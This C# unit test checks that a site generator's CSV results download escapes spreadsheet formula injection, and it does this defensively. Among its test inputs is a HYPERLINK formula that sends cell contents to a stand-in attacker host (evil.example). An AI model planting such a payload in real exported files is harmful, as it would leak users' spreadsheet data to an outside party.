using Microsoft.VisualBasic.FileIO;

namespace RaQuan.Tests.Results;

public sealed class ResultCsvFormulaTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";

    [Fact]
    public void No_cell_of_the_csv_download_can_run_as_a_formula_whichever_column_it_is_in()
    {
        // The unit's code, its name, the unit heading and a column name each carry a formula.
        using var site = TestSite.Create(ResultFiles.Site.Replace("Chiều dài", "@SUM(A1)", StringComparison.Ordinal) + $$"""

            -- content/units.yml --
            units:
              - name: Kon Tum
                kind: tỉnh
                code: "+62"
                children:
                  - name: Đắk Hà
                    kind: huyện
                    code: '{{Formula.Replace("'", "''", StringComparison.Ordinal)}}'
                    children:
                      - name: Đắk La
                        kind: xã
                        code: "-1+2"
                      - name: Đắk Hà
                        kind: thị trấn
                        slug: thi-tran-dak-ha
                  - name: Kon Rẫy
                    kind: huyện
                    code: "0611"
              - name: Đắk Nông
                kind: tỉnh
                children:
                  - name: Đắk R'Lấp
                    kind: huyện
            """);
        site.BuildOk();

        var cells = ReadCells(site.OutPath("api/ket-qua/ket-qua.csv"));

        Assert.Contains("'" + Formula, cells);
        Assert.Contains("'-1+2", cells);
        Assert.Contains("0611", cells);
        Assert.Contains("'@SUM(A1)", cells);
        Assert.Contains("13136,1", cells);
        Assert.All(cells, cell => Assert.False(
            cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r' or '\n'
            || (cell.StartsWith('-') && !decimal.TryParse(cell[1..].Replace(',', '.'), System.Globalization.CultureInfo.InvariantCulture, out _)),
            $"the cell \"{cell}\" would run as a formula"));
    }

    private static List<string> ReadCells(string path)
    {
        using var parser = new TextFieldParser(path, Encoding.UTF8) { HasFieldsEnclosedInQuotes = true };
        parser.SetDelimiters(",");
        var cells = new List<string>();
        while (!parser.EndOfData)
        {
            cells.AddRange(parser.ReadFields()!);
        }

        return cells;
    }
}
